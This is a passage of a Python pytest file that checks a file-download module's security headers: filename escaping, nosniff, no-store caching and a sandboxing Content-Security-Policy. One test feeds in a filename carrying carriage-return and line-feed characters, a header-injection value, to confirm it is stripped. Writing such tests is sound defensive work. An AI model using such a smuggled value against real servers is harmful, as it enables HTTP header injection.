    asked = {query.model._meta.label for query in files._pointers()}
    assert "reports.Report" in asked


@pytest.mark.parametrize(
    ("kind", "inline", "disposition", "sandboxed"),
    [
        ("pdf", False, "attachment", True),
        ("pdf", True, "inline", False),
        ("png", True, "inline", True),
        ("jpg", False, "attachment", True),
        ("docx", True, "attachment", True),
    ],
)
def test_headers_keep_a_file_harmless(kind, inline, disposition, sandboxed):
    stored = StoredFile(name=f'Đơn "1".{kind}', content_type_name=files.kinds.TYPES[kind])
    sent = files.headers(stored, inline=inline)
    assert sent["Content-Type"] == files.kinds.TYPES[kind]
    assert sent["Content-Disposition"] == (
        f'{disposition}; filename="Don _1_.{kind}"; '
        f"filename*=UTF-8''%C4%90%C6%A1n%20%221%22.{kind}"
    )
    assert sent["X-Content-Type-Options"] == "nosniff"
    assert sent["Cache-Control"] == "private, no-store"
    assert sent["Content-Security-Policy"].startswith("default-src 'none'")
    assert ("sandbox" in sent["Content-Security-Policy"]) is sandboxed


def test_unknown_type_leaves_as_bytes():
    stored = StoredFile(name="a\r\nb.html", content_type_name="text/html")
    sent = files.headers(stored, inline=True)
    assert sent["Content-Type"] == "application/octet-stream"
    assert sent["Content-Disposition"].startswith("attachment")
    assert not any(sign in value for value in sent.values() for sign in "\r\n")


def test_limits_are_what_the_help_says():
    assert pictures.MOST_PIXELS == 40_000_000
    assert pictures.LONGEST_SIDE == 2560
